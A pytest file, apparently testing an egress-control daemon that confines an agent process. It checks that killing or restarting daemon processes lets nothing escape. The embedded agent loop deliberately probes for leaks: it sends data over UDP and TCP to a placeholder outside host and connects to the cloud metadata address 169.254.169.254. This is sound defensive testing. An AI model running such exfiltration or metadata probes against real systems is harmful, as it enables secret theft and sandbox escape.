"""Must show 5: each process of the daemon is killed while an agent loops. Nothing leaves, new connects fail or
wait, and after a restart the same agent process works again. The agent sits in a network namespace of its own:
the daemon's traffic does not go over its link, so the capture must stay empty."""

import os
import signal
import threading

import pytest

from helpers import audit, works
from lab import TRAPS, wait_for

ROLES = ["proxy", "keeper", "resolver", "holder", "parent"]

# Each round: a new connection with a reference, then three ways past the wall.
LOOP = """
import http.client, os, socket, ssl, time
def attempt(f):
    try:
        f()
        return "SENT"
    except OSError:
        return "refused"
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(b"leak", ("203.0.113.66", 9999))
def tcp(host, port):
    s = socket.create_connection((host, port), 1)
    s.settimeout(1)
    s.sendall(b"leak\\r\\n")
n = 0
while True:
    n += 1
    try:
        c = http.client.HTTPSConnection("api.stripe.com", timeout=2)
        c.request("GET", "/v1/invoices", headers={"Authorization": "Bearer " + os.environ["STRIPE_KEY"]})
        r = c.getresponse()
        r.read()
        c.close()
        said = "ok" if r.status == 200 else f"status-{r.status}"
    except Exception as e:
        said = f"failed {type(e).__name__} {e}"
    u = attempt(udp)
    attempt(lambda: tcp("203.0.113.66", 9999))
    m = attempt(lambda: tcp("169.254.169.254", 80))
    print(n, os.getpid(), said, "| udp", u, "metadata", m, flush=True)
    time.sleep(0.02)
"""


class Agent:
    def __init__(self, lab, ns="pod"):
        # While no resolver answers a round takes two seconds, not twenty.
        quick = {"RES_OPTIONS": "timeout:1 attempts:1"}
        self.lines, self.proc = [], lab.agent_start("/usr/bin/python3", "-c", LOOP, ns=ns, text=True, env=quick)
        self.reader = threading.Thread(target=lambda: self.lines.extend(iter(self.proc.stdout.readline, "")), daemon=True)
        self.reader.start()

    def oks(self):
        return sum(" ok |" in line for line in list(self.lines))

    def wait_ok(self, more=3, seconds=30):
        want = self.oks() + more
        wait_for(f"{more} more answers; the last lines: {self.lines[-4:]} {self.ended()}", lambda: self.oks() >= want or self.ended(), seconds)
        assert self.oks() >= want, (self.ended(), self.lines[-5:])

    def ended(self):
        return self.proc.poll() is not None and f"the agent ended with {self.proc.returncode}: {self.proc.stderr.read()[-500:]}"

    def wait_round(self, count=2, seconds=30):
        want = len(self.lines) + count
        wait_for("the agent's next rounds", lambda: len(self.lines) >= want or self.ended(), seconds)

    def end(self):
        self.proc.kill()
        self.proc.wait()
        return self.lines


@pytest.fixture
def looping(fresh):
    agent = Agent(fresh)
    yield fresh, agent
    agent.end()


def alive(pid):
    try:
        with open(f"/proc/{pid}/stat", encoding="ascii", errors="replace") as f:
            return f.read().rpartition(")")[2].split()[0] not in "ZX"
    except OSError:
        return False


def nothing_left(lab, agent):
    assert lab.captures["pod"].packets() == []
    assert lab.leaks() == []
    assert lab.captures["box"].to(*TRAPS) == []
    assert not [line for line in agent.lines if "udp SENT" in line or "metadata SENT" in line]
    assert len({line.split()[1] for line in agent.lines}) == 1, "not the same agent process"


def role_pids(d, role):
    return [pid for r, pid in d.processes() if r.rstrip("0123456789") == role or (role == "parent" and r == "main")]


@pytest.mark.parametrize("role", ROLES)
def test_kill_one(looping, role):
    lab, agent = looping
    d = lab.daemons[0]
    agent.wait_ok()
    pids = role_pids(d, role)
    assert pids, (role, d.processes())
    before = dict((pid, r) for r, pid in d.processes())
    for pid in pids:
        os.kill(pid, signal.SIGKILL)
    agent.wait_round()
    revive(d, agent, role, pids, before)
    agent.wait_ok(5)
    nothing_left(lab, agent)
    works(lab)


def revive(d, agent, role, pids, before):
    """The daemon either replaced the dead process by itself, or has ended as a whole and is started again."""
    if role == "parent" or d.proc.poll() is not None:
        d.proc.wait(10)
        others = [pid for pid, r in before.items() if r != "holder"]
        wait_for(f"the end of the others {before}", lambda: not any(alive(p) for p in others), 10)
        oks = agent.oks()
        agent.wait_round(2)
        assert agent.oks() <= oks + 1, "a connect worked while the daemon was dead"
        d.start()
    else:
        wait_for(f"a new {role}", lambda: (lambda now: now and not set(now) & set(pids))(role_pids(d, role)), 20)


def test_kill_all_at_once(looping):
    lab, agent = looping
    d = lab.daemons[0]
    agent.wait_ok()
    pids = [pid for _, pid in d.processes()]
    for pid in pids:
        os.kill(pid, signal.SIGKILL)
    wait_for("the end of all", lambda: not any(alive(p) for p in pids), 10)
    d.proc.wait(10)
    oks = agent.oks()
    agent.wait_round(3)
    assert agent.oks() <= oks + 1, "a connect worked while the daemon was dead"
    nothing_left(lab, agent)
    d.start()
    agent.wait_ok(5)
    nothing_left(lab, agent)


def test_stop_and_start_by_hand(looping):
    """An orderly end opens nothing either."""
    lab, agent = looping
    d = lab.daemons[0]
    agent.wait_ok()
    assert d.stop() == 0, d.messages()
    agent.wait_round()
    nothing_left(lab, agent)
    d.start()
    agent.wait_ok(3)
    nothing_left(lab, agent)
    audit(d, verdict="allow", host="api.stripe.com")


def test_killed_again_and_again(looping):
    """Ten times in a row: what is pinned, listening and mounted does not pile up."""
    lab, agent = looping
    d = lab.daemons[0]
    agent.wait_ok()
    for _ in range(10):
        d.proc.kill()
        d.proc.wait(10)
        d.start()
    agent.wait_ok(3)
    nothing_left(lab, agent)
    holders = [pid for role, pid in d.processes() if role == "holder"]
    old = [pid for pid in d.holders() if alive(pid)]
    assert len(holders) == 1 and old == holders, (holders, old)
